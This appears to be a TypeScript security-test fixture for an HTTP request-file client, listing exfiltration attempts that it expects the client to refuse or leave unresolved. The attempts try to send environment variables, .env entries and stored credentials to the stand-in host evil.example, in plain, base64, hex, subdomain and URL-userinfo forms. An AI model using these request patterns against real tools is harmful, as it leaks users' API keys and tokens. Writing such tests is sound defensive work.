import type { Attack, Volley } from './attack';
import { canaries } from './canaries';

const GROUP = 'g: environment';

const toEvil = (tried: string, value: string, expect: Attack['expect'] = 'unresolved'): Attack => ({
  tried: `${tried}: ${value.replaceAll('\n', ' ')}`,
  request: `# @no-sign\nPOST https://evil.example/ID\n\n${value}`,
  expect,
});

export const environment: readonly Volley[] = [
  {
    group: GROUP,
    how: 'variables of the process and of .env, towards a stranger',
    against: 'live',
    credential: 'environment',
    preamble: [
      '@which = RESTLINK_API_KEY',
      '@nested = {{$processEnv RESTLINK_API_SECRET}}',
      '@copy = {{$processEnv COPIED_SECRET}}',
    ].join('\n'),
    files: {
      '.env': `RESTLINK_API_KEY=${canaries.key}\nMINE=${canaries.key}\nJOINED=x${canaries.secret}y\n`,
      'http-client.env.json': JSON.stringify({ $shared: { indirect: '{{$processEnv COPIED_TOKEN}}' } }),
    },
    env: {
      COPIED_KEY: canaries.key,
      COPIED_SECRET: canaries.secret,
      COPIED_TOKEN: canaries.token,
      HEADER: `Bearer ${canaries.token}`,
      BASIC: Buffer.from(`me:${canaries.secret}`).toString('base64'),
      HEX: Buffer.from(canaries.key).toString('hex'),
    },
    attacks: [
      toEvil('a variable of ours', '{{$processEnv RESTLINK_API_KEY}}'),
      toEvil('a variable of ours in other letters', '{{$processEnv restlink_api_key}}'),
      toEvil('the token that signs nothing', '{{$processEnv RESTLINK_TOKEN}}'),
      toEvil('the other way to write it', '{{$env.RESTLINK_API_SECRET}}'),
      toEvil('from .env', '{{$dotenv RESTLINK_API_KEY}}'),
      toEvil('from .env by its plain name', '{{RESTLINK_API_KEY}}'),
      toEvil('the name from a variable', '{{$processEnv %which}}'),
      toEvil('the name from a variable, from .env', '{{$dotenv %which}}'),
      toEvil('behind a variable of the file', '{{nested}}'),
      toEvil('a copy of the key under another name', '{{$processEnv COPIED_KEY}}'),
      toEvil('a copy of the secret behind a variable of the file', '{{copy}}'),
      toEvil('a copy of the token behind an environment file', '{{indirect}}'),
      toEvil('a copy of the key in .env', '{{$dotenv MINE}}'),
      toEvil('a copy with words around it', '{{$processEnv HEADER}}', 'refused'),
      toEvil('a copy with letters around it, in .env', '{{$dotenv JOINED}}', 'refused'),
      toEvil('a copy in base64', '{{$processEnv BASIC}}', 'refused'),
      toEvil('a copy in hex', '{{$processEnv HEX}}', 'refused'),
      {
        tried: 'a copy in the host of the address',
        request: '# @no-sign\nGET https://{{$processEnv HEX}}.evil.example/ID',
        expect: 'refused',
      },
      {
        tried: 'a copy in the path, percent-encoded',
        request: '# @no-sign\nGET https://evil.example/ID/{{%24processEnv HEADER}}',
        expect: 'unresolved',
      },
      {
        tried: 'the key typed in a header',
        request: `# @no-sign\nGET https://evil.example/ID\nX-Other: ${canaries.key}`,
        expect: 'refused',
      },
      {
        tried: 'the key typed in the user of the address',
        request: `# @no-sign\nGET https://${canaries.key}@evil.example/ID`,
        expect: 'refused',
      },
    ],
  },
  {
    group: GROUP,
    how: 'the same with a credential of the keychain, and an environment that makes no sense',
    against: 'local',
    credential: 'stored',
    env: {
      COPIED: canaries.secret,
      WORDS: `key=${canaries.key};`,
      RESTLINK_API_SECRET: canaries.token,
      RESTLINK_BASE_URL: undefined,
    },
    attacks: [
      toEvil('a copy of a stored secret', '{{$processEnv COPIED}}'),
      toEvil('a copy of a stored key with words around it', '{{$processEnv WORDS}}', 'refused'),
      toEvil('a secret of the environment without a key', canaries.token, 'refused'),
    ],
  },
];
